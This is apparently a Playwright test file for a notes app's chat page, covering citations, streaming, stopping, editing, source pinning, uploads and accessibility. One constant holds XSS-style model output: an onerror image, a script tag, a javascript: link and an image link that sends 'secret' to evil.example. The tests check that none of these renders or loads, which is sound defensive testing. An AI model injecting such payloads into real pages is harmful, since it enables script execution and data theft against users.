"""The page of conversations in a browser: a real service, whose model is a fake server that says what a test wants."""

from __future__ import annotations

import re
import threading
from contextlib import contextmanager
from dataclasses import replace

import pytest

from queue_config.settings import ChatSettings
from tests.browser.serving import serving
from tests.browser.stage import make_stage
from tests.browser.test_ops import LOOKS, PHONE, RULES, SHOWN
from tests.fakes.model_api import KEY, LOCAL, Called, ErrorEvent, Reply, Said, Thought, Wait, fake_model

pytest.importorskip("openai", reason="everindex[chat] is not installed")

QUESTION = "What is in the soil?"
ANSWER = (
    'Your note 🌱 says "soil and compost, a line to the river" [1]. It also says "soil is made of cheese entirely"'
    " [1]. I like soil. So do worms.\n\n## To do\n\n- Turn **the heap** [2].\n- Use `lime`: see [99].\n\n1. Dig.\n2. Wait.\n\n"
    "```\nfor bed in beds:\n    dig(bed)\n```\n\n> soil and compost, a line to the river [1]\n"
)
HOSTILE = (
    'Look: <img src="https://evil.example/a.png" onerror="alert(1)"> ![b](https://evil.example/c.png?q=secret)'
    " [d](https://evil.example/e) https://evil.example/f <script>alert(2)</script> [1](javascript:alert(3))."
)


@contextmanager
def chatting(folder, tiny_model):
    stage = make_stage(folder, tiny_model, notes=60, jobs=5)
    with fake_model() as fake:
        given = {"url": f"{fake.url}/v1", "key": KEY, "local": True, "usd_per_million_tokens": 0}
        named = ChatSettings(model=LOCAL, **given)
        stage = replace(stage, settings=stage.settings.model_copy(update={"chat": named}))
        with serving(stage.settings) as address:
            yield fake, stage, address


@pytest.fixture(scope="module")
def served(chromium, tmp_path_factory, tiny_model):  # noqa: ARG001 - without it nothing need be made
    with chatting(tmp_path_factory.mktemp("chat"), tiny_model) as made:
        yield made


@pytest.fixture
def fake(served):
    fake, *_ = served
    fake.replies.clear()
    fake.requests.clear()
    fake.hung_up.clear()
    fake.by_default = lambda _: Reply(Said(ANSWER))
    return fake


@pytest.fixture
def page(served, fake, open_page):  # noqa: ARG001 - it is as every test begins with it
    page = open_page(*served[1:])
    page.set_default_timeout(60_000)
    page.goto("/chat")
    return page


def type_question(page, question=QUESTION):
    field = page.get_by_role("textbox", name="Your question")
    field.fill(question)
    field.press("Enter")


def ask(page, question=QUESTION):
    """Ask, and wait for the end of the answer."""
    type_question(page, question)
    turns = page.locator(".turn", has=page.get_by_role("heading", name=question, exact=True))
    turns.last.locator(".end .facts").wait_for()
    page.get_by_role("button", name="Ask", exact=True).wait_for()
    return turns.last


def said_to(request):
    """Return what a request tells the model, apart from its instructions."""
    return str([one for one in request["messages"] if one["role"] != "system"])


def sources(page):
    return page.locator(".sources li")


def test_sources_come_first_and_an_answer_looks_the_same_while_it_comes_and_when_it_is_kept(page, fake):
    begin = threading.Event()
    fake.replies.append(Reply(Thought("I look it up."), Wait(begin), Said(ANSWER)))
    type_question(page)
    sources(page).first.wait_for()
    assert page.locator(".answer").inner_text() == ""
    page.get_by_text("Thinking", exact=True).click()
    page.get_by_text("I look it up.").wait_for()
    assert page.get_by_role("button", name="Stop").is_visible()
    begin.set()
    page.locator(".end .facts").wait_for()
    quoted = page.locator(".answer q.verified").first
    assert quoted.inner_text() == '"soil and compost, a line to the river"'
    assert page.locator(".answer q.unverified").inner_text() == '"soil is made of cheese entirely"'
    assert page.locator(".answer").get_by_role("img", name="not in the sources").count() == 1
    assert "2 quotes verified, 1 not" in page.locator(".end").inner_text()
    assert "3 saved notes were not indexed yet" in page.locator(".end").inner_text()
    streamed = page.locator(".answer").inner_html()
    assert re.search(r"/chat\?chat=[0-9a-f]{12}$", page.url)
    page.reload()
    assert page.locator(".answer").inner_html() == streamed
    assert page.locator("#chats a[aria-current]").inner_text() == QUESTION


def test_a_citation_shows_its_source_and_the_source_leads_into_the_note(page):
    turn = ask(page)
    cited = turn.locator("a.cite", has_text="[1]").first
    source = turn.locator("#s1")
    cited.hover()
    assert "named" in source.get_attribute("class")
    assert (
        page.evaluate("[...CSS.highlights.get('quoted')].join()") == "soil and compost, a line to the river"
    )
    page.mouse.move(0, 0)
    assert "named" not in source.get_attribute("class")
    cited.focus()
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "s1"
    source.get_by_role("link").click()
    page.wait_for_url(re.compile(r"/notes/.+#L\d+-L\d+$"))


def test_nothing_that_a_model_writes_is_loaded_or_becomes_a_link(page, fake):
    fake.replies.append(Reply(Said(HOSTILE)))
    turn = ask(page)
    for _ in range(2):  # while it comes, and as it is kept
        answer = turn.locator(".answer")
        assert "<img src=" in answer.inner_text()
        assert answer.locator("img, script, iframe, svg").count() == 0
        links = answer.locator("a").evaluate_all("all => all.map((one) => one.getAttribute('href'))")
        assert set(links) <= {"#s1"}
        page.reload()
    # `open_page` fails if a request left, or a script ran.


def test_what_is_copied_has_its_citations_and_loads_nothing(page, fake):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ask(page).get_by_role("button", name="Copy").click()
    page.get_by_text("Copied as Markdown").wait_for()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert 'says "soil and compost, a line to the river" [1].' in copied
    assert 'says "soil is made of cheese entirely" (not in the notes) [1].' in copied
    assert re.search(r"^- \[1\] \[\[.+\.md\]\], lines \d+ to \d+$", copied, re.MULTILINE)
    fake.replies.append(Reply(Said(HOSTILE)))
    page.goto("/chat")
    ask(page).get_by_role("button", name="Copy").click()
    page.get_by_text("Copied as Markdown").wait_for()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert not re.search(r"(?<!\\)(?:!\[|<img|<script)|\]\(", copied)


@pytest.mark.parametrize("how", ["key", "button"])
def test_an_answer_is_stopped_and_asked_again(page, fake, how):
    fake.replies.append(Reply(Said("It begins here. And"), Wait(120.0), Said(" ends there.")))
    type_question(page)
    page.get_by_text("It begins here.").wait_for()
    if how == "key":
        page.keyboard.press("Escape")
    else:
        page.get_by_role("button", name="Stop").click()
    assert fake.hung_up.wait(60)
    page.locator(".end .remark", has_text=re.compile("stopped|interrupted")).wait_for()
    assert page.get_by_text("It begins here.").is_visible()
    page.get_by_role("button", name="Ask again").click()
    page.locator(".end .facts").wait_for()
    assert page.locator(".turn").count() == 1
    assert page.locator(".answer q.verified").count()


def test_a_reload_in_the_middle_shows_the_question_as_interrupted(page, fake):
    fake.replies.append(Reply(Said("It begins here. And"), Wait(120.0)))
    type_question(page)
    page.get_by_text("It begins here.").wait_for()
    page.reload()
    page.locator(".end .remark", has_text=re.compile("stopped|interrupted")).wait_for()
    assert page.get_by_role("heading", name=QUESTION, level=2).is_visible()
    assert fake.hung_up.wait(60)
    page.get_by_role("button", name="Ask again").click()
    page.locator(".end .facts").wait_for()
    assert page.locator(".answer q.verified").count()


def test_an_earlier_question_is_changed_and_what_follows_is_deleted(page, fake):
    for number in range(1, 4):
        ask(page, f"Question {number} of the soil?")
    page.locator("#turn-2").get_by_role("button", name="Edit").click()
    page.get_by_text(
        "You change question 2. Its answer and the question after it will be deleted."
    ).wait_for()
    page.keyboard.press("Escape")
    assert page.get_by_role("textbox", name="Your question").input_value() == ""
    page.locator("#turn-2").get_by_role("button", name="Edit").click()
    ask(page, "Another question of the compost?")
    assert page.locator(".turn h2").all_inner_texts() == [
        "Question 1 of the soil?",
        "Another question of the compost?",
    ]
    page.reload()
    assert page.locator(".turn").count() == 2
    assert "Question 3" not in said_to(fake.requests[-1])
    assert "Question 1" in said_to(fake.requests[-1])


def test_only_the_last_answer_is_made_again(page, fake):
    ask(page, "First of the soil?")
    ask(page, "Second of the soil?")
    again = page.get_by_role("button", name="Answer again")
    assert again.count() == 1
    fake.replies.append(Reply(Said("Quite another answer.")))
    again.click()
    page.get_by_text("Quite another answer.").wait_for()
    page.locator("#turn-2 .end .facts").wait_for()
    assert page.locator(".turn").count() == 2


def test_answers_come_from_what_is_pinned_until_it_is_removed(page, fake):
    pin = page.get_by_role("combobox", name="Only from")
    for number, typed in enumerate(("Soils/", "#soil", "Soil 11")):
        pin.press_sequentially(typed)
        pin.press("Enter")
        page.locator("#scope .chip").nth(number).wait_for()
    pin.press_sequentially("nowhere")
    pin.press("Enter")
    page.get_by_role("alert").get_by_text("No folder, tag or note is called nowhere.").wait_for()
    pin.fill("")
    ask(page)
    chips = page.locator("#scope .chip span")
    assert chips.all_inner_texts() == ["Soils/", "#soil", "Soils/Soil 11.md"]
    assert "folder Soils, tag soil, note Soils/Soil 11.md" in fake.wire
    page.reload()
    assert chips.all_inner_texts() == ["Soils/", "#soil", "Soils/Soil 11.md"]
    for name in ("Remove #soil", "Remove Soils/Soil 11.md"):
        page.get_by_role("button", name=name).click()
    fake.requests.clear()
    ask(page, "And what is in the soil now?")
    page.reload()
    assert chips.all_inner_texts() == ["Soils/"]
    assert "tag soil" not in fake.wire


def test_files_are_added_by_the_button_and_by_dropping_them_and_what_is_too_large_is_said(page, fake):
    files = [
        {"name": "list.txt", "mimeType": "text/plain", "buffer": "lime and größere seeds".encode()},
        {"name": "dot.png", "mimeType": "image/png", "buffer": b"\x89PNG\r\n\x1a\n" + bytes(40)},
    ]
    page.get_by_label("Files", exact=True).set_input_files(files)
    chips = page.locator("#files .chip span")
    chips.nth(1).wait_for()
    for name, kind, size, said in (
        ("long.txt", "text/plain", 40_001, "long.txt was not added: it has 40,001 characters"),
        ("large.png", "image/png", 600_000, "large.png was not added: it has 600,000 bytes"),
    ):
        page.get_by_label("Files", exact=True).set_input_files(
            [{"name": name, "mimeType": kind, "buffer": b"x" * size}]
        )
        page.get_by_role("alert").get_by_text(said).wait_for()
    drop = (
        "new File([new Uint8Array([0, 1, 255])], 'program.bin')",
        "new File(['dropped words'], 'dropped.md')",
    )
    for made in drop:
        page.evaluate(
            f"{{ const data = new DataTransfer(); data.items.add({made});"
            " document.body.dispatchEvent(new DragEvent('drop', {dataTransfer: data, bubbles: true, cancelable: true})) }"
        )
    page.get_by_text("dropped.md").wait_for()
    assert chips.all_inner_texts() == ["list.txt", "dot.png", "dropped.md"]
    page.get_by_role("button", name="Remove dropped.md").click()
    turn = ask(page)
    assert chips.count() == 0
    assert turn.locator(".tag").all_inner_texts() == ["list.txt", "dot.png"]
    assert "lime and größere seeds" in fake.wire
    assert "dropped words" not in fake.wire
    assert "data:image/png;base64," in fake.wire


def test_two_tabs_do_not_mix(page, served, fake, open_page):
    begin = threading.Event()
    fake.replies += [Reply(Wait(begin), Said("The first answer.")), Reply(Said("The second answer."))]
    type_question(page, "First of the soil?")
    sources(page).first.wait_for()
    other = open_page(*served[1:])
    other.goto("/chat")
    ask(other, "Second of the compost?")
    begin.set()
    page.get_by_text("The first answer.").wait_for()
    page.locator(".end .facts").wait_for()
    assert page.url != other.url
    for tab, answer in ((page, "The first answer."), (other, "The second answer.")):
        tab.reload()
        assert tab.locator(".answer p:not(.remark)").all_inner_texts() == [answer]


def test_a_conversation_is_saved_as_a_note_and_deleted(page, served):
    ask(page, "What is in the soil of the saved note?")
    page.get_by_role("button", name="Save as a note").click()
    saved = page.get_by_role("status").get_by_role("link")
    saved.wait_for()
    _, stage, _ = served
    assert "soil and compost" in (stage.resources.root / saved.inner_text()).read_text()
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    address = page.url
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    page.wait_for_url("**/chat")
    assert page.get_by_role("link", name="What is in the soil of the saved note?").count() == 0
    assert page.request.get(address, headers={"Accept": "text/html"}).status == 404


def test_keys_reach_the_field_break_a_line_and_ask(page, fake):
    page.get_by_role("link", name="New").focus()
    page.keyboard.press("/")
    page.keyboard.type("One/two")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("of the soil?")
    page.keyboard.press("Enter")
    page.locator(".end .facts").wait_for()
    assert page.locator(".turn h2").inner_text() == "One/two\nof the soil?"
    assert "One/two\\nof the soil?" in said_to(fake.requests[-1])
    page.keyboard.press("Enter")  # nothing is asked without a question
    assert page.locator(".turn").count() == 1


def test_tools_errors_and_what_to_do_are_shown(page, fake):
    fake.replies += [
        Reply(Called("search", {"query": "compost"})),
        Reply(Said("It begins. "), ErrorEvent(message="Overloaded")),
    ]
    type_question(page)
    page.get_by_text("search: compost").wait_for()
    page.get_by_role("alert").filter(has_text="check that it can be reached").wait_for()
    page.get_by_role("button", name="Ask again").wait_for()
    assert "It begins." in page.locator(".answer").inner_text()


def test_a_question_that_is_refused_goes_back_into_the_field(page, served, open_page):
    ask(page)
    *_, address = served
    chat = page.url.rpartition("=")[2]
    assert page.request.delete(f"{address}/chats/{chat}", data={}, headers={"Origin": address}).ok
    open_page.expected.append("404 (Not Found)")
    type_question(page, "And then?")
    # The page, which looks for news, may say so, too.
    page.locator("#notice").get_by_text("there is no conversation").wait_for()
    assert page.get_by_role("textbox", name="Your question").input_value() == "And then?"
    assert page.locator(".turn").count() == 1


def test_without_a_script_a_conversation_is_readable(page, served, open_page):
    ask(page)
    plain = open_page(*served[1:], java_script_enabled=False)
    plain.goto(page.url)
    assert plain.locator(".answer q.verified").count() == 2
    assert plain.locator(".sources li").first.is_visible()
    assert not plain.get_by_role("button").count()
    plain.get_by_role("link", name="[1]").first.click()
    assert plain.url.endswith("#s1")


def test_without_a_model_the_page_says_how_to_name_one(small, open_page, screenshots):
    page = open_page(*small)
    page.goto("/chat")
    page.get_by_text("EVERINDEX_CHAT=").first.wait_for()
    assert page.get_by_role("textbox").count() == 0
    page.screenshot(path=screenshots / "chat-off.png")


@pytest.mark.parametrize("look", SHOWN)
def test_every_state_is_complete_and_accessible(look, served, fake, open_page, axe, screenshots):
    page = open_page(*served[1:], **LOOKS[look])
    page.set_default_timeout(60_000)

    def check(name):
        page.screenshot(path=screenshots / f"chat-{name}-{look}.png")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{name} is too wide"
        found = axe.run(page, options={"resultTypes": ["violations"]} | RULES[look]).response["violations"]
        assert [
            (one["id"], one["nodes"][0]["html"]) for one in found if one["impact"] in ("serious", "critical")
        ] == [], name

    page.goto("/chat")
    page.locator(".scripted").wait_for()
    check("new")
    begin = threading.Event()
    fake.replies.append(Reply(Thought("I look."), Wait(begin), Said(ANSWER)))
    page.get_by_role("combobox", name="Only from").press_sequentially("Soils/")
    page.keyboard.press("Enter")
    page.locator("#scope .chip").wait_for()
    type_question(page)
    page.get_by_text("Thinking", exact=True).wait_for()
    check("waiting")
    begin.set()
    page.locator(".end .facts").wait_for()
    check("answered")
    page.get_by_role("button", name="Edit").click()
    page.get_by_label("Files", exact=True).set_input_files(
        [{"name": "list.txt", "mimeType": "text/plain", "buffer": b"lime"}]
    )
    page.locator("#files .chip").wait_for()
    check("changed")
    page.keyboard.press("Escape")
    fake.replies.append(Reply(Said("The gods play no cricket.")))
    ask(page, "Who won the cricket cup of the gods in 1974?")
    check("second")
    page.get_by_role("button", name="Delete").click()
    check("delete")


def test_on_a_phone_the_places_are_in_one_row(served, open_page):
    page = open_page(*served[1:], viewport=PHONE, has_touch=True)
    page.goto("/chat")
    page.locator("[data-badge=Review]:not([hidden])").wait_for()
    boxes = [one.bounding_box() for one in page.locator(".site > ul > li").all()]
    assert len({box["y"] for box in boxes}) == 1
    assert boxes[-1]["x"] + boxes[-1]["width"] <= PHONE["width"]
